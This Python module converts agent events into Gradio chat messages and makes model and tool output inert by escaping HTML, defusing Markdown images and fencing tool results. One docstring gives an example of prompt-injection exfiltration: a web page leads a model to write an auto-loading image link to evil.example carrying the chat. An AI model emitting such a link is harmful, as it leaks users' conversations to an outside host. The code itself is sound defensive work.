"""Agent events -> chat messages for the Gradio `Chatbot`, as plain dicts (no gradio import, easy to test).

Model text and tool results are data from outside: everything shown is made inert here. HTML is escaped outside
Markdown code, Markdown images are defused (they would load by themselves), and tool results go in a fenced code
block whose fence is longer than any backtick run inside it, so a result can neither close the fence nor inject
markup.
"""

from __future__ import annotations

import html
import json
import re
from typing import Any

from agent.events import AgentError, Notice, ToolCallFinished, ToolCallStarted, TurnStats

_FENCE_LINE = re.compile(r"^\s{0,3}(`{3,}|~{3,})")
_INLINE_CODE = re.compile(r"(`+)(.+?)\1", re.DOTALL)


def escape_text(text: str) -> str:
    """Escape `&`, `<` and `>` everywhere (for titles and other one-line labels)."""
    return html.escape(text or "", quote=False)


def inert_markdown(text: str) -> str:
    """Markdown from a model with any HTML made literal; code blocks and inline code are left as written.

    Markdown renders code verbatim (never as HTML), so escaping there would show `&lt;` to the user instead of `<`.
    """
    out, fence = [], None
    for line in (text or "").splitlines(keepends=True):
        match = _FENCE_LINE.match(line)
        if fence is None:
            if match:
                fence = match.group(1)
                out.append(line)
            else:
                out.append(_escape_outside_inline_code(line))
        else:
            out.append(line)
            if match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence) \
                    and not line.strip().lstrip(fence[0]):
                fence = None
    return "".join(out)


def _escape_outside_inline_code(line: str) -> str:
    parts, last = [], 0
    for match in _INLINE_CODE.finditer(line):
        parts.append(_inert(line[last:match.start()]))
        parts.append(match.group(0))
        last = match.end()
    parts.append(_inert(line[last:]))
    return "".join(parts)


def _inert(text: str) -> str:
    """HTML escaped, and no Markdown image: an image loads by itself, so a model talked into writing
    `![](https://evil.example/?q=<the chat>)` by a web page would send the conversation away. `!\\[` shows as written.
    """
    return escape_text(text).replace("![", "!\\[")


def code_block(text: str, language: str = "") -> str:
    """`text` in a fenced block that nothing inside it can close."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"


def format_result(result: Any) -> str:
    """A tool result as pretty JSON in an inert code block."""
    try:
        body = json.dumps(result, indent=2, ensure_ascii=False, default=str)
    except (TypeError, ValueError):
        body = repr(result)
    return code_block(body, "json")


# ----------------------------------------------------------------------------------------------- chat messages

def user_message(text: str) -> dict[str, Any]:
    return {"role": "user", "content": inert_markdown(text)}


def assistant_message(text: str) -> dict[str, Any]:
    return {"role": "assistant", "content": inert_markdown(text)}


def inline_code(text: str) -> str:
    """`text` as a Markdown code span that nothing inside it can close (rendered verbatim, so never as HTML)."""
    text = " ".join((text or "").split())
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


MAX_TITLE_CHARS = 200


def tool_call_title(call) -> str:
    """The call as the model wrote it, in code style: `get_current_weather(location="Oslo")` (a 10k-character
    argument is cut: the whole call is in the model's reply, the title only has to say which tool ran)."""
    text = call.to_python()
    if len(text) > MAX_TITLE_CHARS:
        text = text[:MAX_TITLE_CHARS] + "…"
    return "🔧 " + inline_code(text)


def tool_pending_message(event: ToolCallStarted, turn_id: str) -> dict[str, Any]:
    """The collapsible message shown while a tool runs (a spinner; the accordion starts open)."""
    return {
        "role": "assistant",
        "content": "Running…",
        "metadata": {"title": tool_call_title(event.call), "status": "pending", "id": f"{turn_id}-tool-{event.index}"},
    }


def tool_done_message(event: ToolCallFinished, turn_id: str) -> dict[str, Any]:
    """The same message once the tool returned: status done, its duration, the result inside."""
    metadata = {
        "title": tool_call_title(event.call),
        "status": "done",
        "duration": round(event.duration_s, 3),
        "id": f"{turn_id}-tool-{event.index}",
    }
    if not event.ok:
        metadata["log"] = "error"
    return {"role": "assistant", "content": format_result(event.result), "metadata": metadata}


def notice_message(event: Notice) -> dict[str, Any]:
    return {"role": "assistant", "content": "ℹ️ _" + escape_text(event.text) + "_"}


def error_message(event: AgentError | str) -> dict[str, Any]:
    text = event.message if isinstance(event, AgentError) else event
    return {"role": "assistant", "content": "⚠️ " + escape_text(text)}


def stats_line(stats: TurnStats) -> str:
    """One muted line of per-turn numbers, shown under the answer."""
    ttft = "–" if stats.time_to_first_token_s is None else f"{stats.time_to_first_token_s:.2f} s"
    calls = f"{stats.llm_calls} LLM call{'s' if stats.llm_calls != 1 else ''}"
    tools = f" · {stats.tool_calls} tool call{'s' if stats.tool_calls != 1 else ''}" if stats.tool_calls else ""
    return (f"{calls}{tools} · prompt {stats.prompt_tokens} tok ({stats.evaluated_tokens} evaluated, "
            f"{stats.cached_tokens} reused from cache) · {stats.completion_tokens} generated · "
            f"first token {ttft} · total {stats.total_s:.2f} s")


def stats_message(stats: TurnStats, model_label: str = "") -> dict[str, Any]:
    """A small collapsed block under the answer: the numbers in the title, the breakdown inside."""
    rows = [
        ("model", escape_text(model_label) or "–"),
        ("LLM calls", stats.llm_calls),
        ("tool calls", stats.tool_calls),
        ("prompt tokens", stats.prompt_tokens),
        ("… evaluated", stats.evaluated_tokens),
        ("… reused from cache", stats.cached_tokens),
        ("generated tokens", stats.completion_tokens),
        ("time to first token", "–" if stats.time_to_first_token_s is None else f"{stats.time_to_first_token_s:.2f} s"),
        ("prompt eval", f"{stats.prompt_eval_s:.2f} s"),
        ("decode", f"{stats.decode_s:.2f} s"),
        ("total", f"{stats.total_s:.2f} s"),
    ]
    table = "| | |\n|---|---|\n" + "\n".join(f"| {k} | {v} |" for k, v in rows)
    return {"role": "assistant", "content": table, "metadata": {"title": "📊 " + stats_line(stats), "status": "done"}}


def message_text(message: dict[str, Any]) -> str:
    """The text of a display message, whether we built it or Gradio normalised it into content parts."""
    content = message.get("content")
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return "".join(part.get("text", "") for part in content if isinstance(part, dict))
    return ""
